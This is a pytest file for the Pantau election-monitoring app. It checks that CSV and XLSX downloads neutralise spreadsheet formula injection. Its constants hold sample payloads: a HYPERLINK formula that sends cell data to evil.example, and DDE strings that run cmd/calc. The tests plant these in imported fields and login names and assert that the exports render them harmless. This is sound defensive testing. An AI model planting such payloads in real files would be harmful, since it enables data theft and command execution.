"""Issue 17, finding 1: formula injection in downloads.

Free text an operator imports (kode_kegiatan, lokasi, nomor, nama_pengawas, pelapor, terlapor) and
the user name a stranger types into the login form are stored as written. No CSV or XLSX that
Pantau writes may hand them to a spreadsheet as a formula: XLSX cells holding text are text cells,
and a CSV text cell that a spreadsheet would evaluate (leading =, +, -, @, tab or carriage return:
OWASP's CSV-injection rule) gets a leading apostrophe. Numbers stay numbers, and the screen shows
the stored text unchanged."""
import csv
import io

import openpyxl
import pandas as pd
import pytest

from data_access import users
from data_access.importer import blank_template, export_workbook, import_file, problems_csv
from data_access.importer.spec import Problem
from data_access.spreadsheet import csv_bytes, xlsx_bytes
from tests.apptest_utils import run_app, sqlite_url
from tests.fixtures_import import KEGIATAN_HEADER, PELANGGARAN_HEADER, PENGAWASAN_HEADER, elections
from tests.fixtures_import import csv_bytes as import_csv

KODE = '=HYPERLINK("https://evil.example/?d="&A1,"Klik di sini")'
LOKASI = '+cmd|" /C calc"!A0'
NOMOR = "-2+3+cmd|' /C calc'!A0"
PELAPOR = '@SUM(1+1)*cmd|" /C calc"!A0'
TERLAPOR = "=1+1"
NAMA = '=HYPERLINK("https://evil.example","Pengawas")'
LOGIN = '=HYPERLINK("https://evil.example","Masuk")'  # 41 characters: fits the form's 50
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(data: bytes) -> list[list[str]]:
    """Every cell of a Pantau CSV download (';' separated, UTF-8 with BOM), stamp lines included."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def xlsx_cells(data: bytes) -> list:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def assert_csv_safe(data: bytes) -> list[str]:
    cells = [c for row in csv_cells(data) for c in row]
    assert not [c for c in cells if c.startswith(TRIGGERS)], "a CSV cell a spreadsheet would evaluate"
    return cells


def assert_xlsx_safe(data: bytes) -> list:
    cells = xlsx_cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "an XLSX formula cell"
    return [c.value for c in cells]


@pytest.fixture
def planted(db):
    """One activity, one LHP and one case whose free text is a formula, imported from CSV files as an
    operator would; and a failed login with a formula as the user name in the audit log."""
    elections(db)
    kegiatan = [KEGIATAN_HEADER, [KODE, "bupati", 2, "tatap_muka_dialog", "01/10/2024", "14.30", "Toboali", "Rias",
                                  LOKASI, "40", "sttp"]]
    pengawasan = [PENGAWASAN_HEADER, ["001/LHP", "2024-10-05", "", "19.03.05.2001", NAMA, "pkd", "langsung", "",
                                      "tidak", ""]]
    pelanggaran = [PELANGGARAN_HEADER, [NOMOR, "laporan", "2024-10-03", "2024-10-04", "Payung", "Malik", "bupati", 2,
                                        "politik_uang", "diterima", "2024-10-04", "", TERLAPOR, PELAPOR]]
    for name, rows in (("kegiatan.csv", kegiatan), ("pengawasan.csv", pengawasan), ("pelanggaran.csv", pelanggaran)):
        result = import_file(db, import_csv(rows), name, "operator_uji")
        assert result.ok, [str(p) for p in result.problems]
    users.audit(db, LOGIN, "login_gagal", {"alasan": "pengguna tidak dikenal atau nonaktif"})
    return db


def page_downloads(monkeypatch, engine, page: str, role: str = "admin") -> dict[tuple[str, str], bytes]:
    """The files behind every table download of ``page``: (table title, format) -> bytes."""
    from ui import components

    made = {}
    real = components.download_data

    def spy(df, lines, file_format, **kwargs):
        out = real(df, lines, file_format, **kwargs)
        made[(lines[0], file_format)] = out
        return out

    monkeypatch.setattr(components, "download_data", spy)
    at = run_app(monkeypatch, sqlite_url(engine), page=page, role=role)
    assert not at.exception, [e.value for e in at.exception]
    return at, {k: v() if callable(v) else v for k, v in made.items()}


@pytest.mark.parametrize("page, planted_text", [
    ("pages/cakupan.py", (KODE, LOKASI)),
    ("pages/pelanggaran.py", (NOMOR, PELAPOR, TERLAPOR)),
    ("pages/pengguna.py", (LOGIN,)),
])
def test_downloads_hand_no_formula_to_a_spreadsheet(monkeypatch, planted, page, planted_text):
    at, files = page_downloads(monkeypatch, planted, page)
    csv_files = [v for (_t, f), v in files.items() if f == "csv"]
    xlsx_files = [v for (_t, f), v in files.items() if f == "xlsx"]
    assert csv_files and len(csv_files) == len(xlsx_files)
    csv_text = [c for data in csv_files for c in assert_csv_safe(data)]
    xlsx_text = [v for data in xlsx_files for v in assert_xlsx_safe(data)]
    for text in planted_text:
        assert "'" + text in csv_text  # neutralised, not dropped
        assert text in xlsx_text       # a text cell holding exactly the stored text
        # on screen: the stored text unchanged
        assert any((df.value == text).any().any() for df in at.dataframe), text


def test_numbers_stay_numbers_and_only_text_is_neutralised():
    df = pd.DataFrame({"Desa": ["Rias", "-Malik", "@Payung", "\tToboali", "\rPongok", "+62 812"],
                       "Selisih": [-3, 2, -1, 0, 5, -7], "Rasio": [-0.5, 0.25, 1.0, -1.5, 0.0, 2.0]})
    rows = csv_cells(csv_bytes(df, lines=["Judul"]))
    assert rows == [["# Judul"], ["Desa", "Selisih", "Rasio"], ["Rias", "-3", "-0,5"], ["'-Malik", "2", "0,25"],
                    ["'@Payung", "-1", "1,0"], ["'\tToboali", "0", "-1,5"], ["'\rPongok", "5", "0,0"],
                    ["'+62 812", "-7", "2,0"]]
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(df, lines=["Judul"]))).active
    body = list(sheet.iter_rows(min_row=5, values_only=True))
    # (XML parsers read a stored carriage return back as a line feed)
    assert body[1:] == [("Rias", -3, -0.5), ("-Malik", 2, 0.25), ("@Payung", -1, 1.0), ("\tToboali", 0, -1.5),
                        ("\nPongok", 5, 0.0), ("+62 812", -7, 2.0)]
    assert all(c.data_type == "n" for row in sheet.iter_rows(min_row=6, min_col=2) for c in row)


def test_a_stamp_line_cannot_start_a_cell_of_its_own():
    # An election or pair name (imported) appears in the filter line; with ';' in it, a raw line
    # would start a new cell with '=' in a ';'-separated CSV.
    data = csv_bytes(pd.DataFrame({"A": [1]}), lines=['Filter: Pasangan X;=HYPERLINK("https://evil.example")'])
    assert_csv_safe(data)
    assert csv_cells(data)[0] == ['# Filter: Pasangan X;=HYPERLINK("https://evil.example")']


def test_import_problem_list_and_round_trip_export_hold_no_formula(planted):
    problems = [Problem("berkas 'kegiatan.csv'", 2, "=1+1", "-nilai tidak dikenal"),
                Problem("lembar '@x'", 3, "+kolom", "=HYPERLINK(\"https://evil.example\")")]
    cells = assert_csv_safe(problems_csv(problems))
    assert "'=1+1" in cells and "'=HYPERLINK(\"https://evil.example\")" in cells
    values = assert_xlsx_safe(export_workbook(planted))
    for text in (KODE, LOKASI, NOMOR, PELAPOR, TERLAPOR, NAMA):
        assert text in values
    assert_xlsx_safe(blank_template())
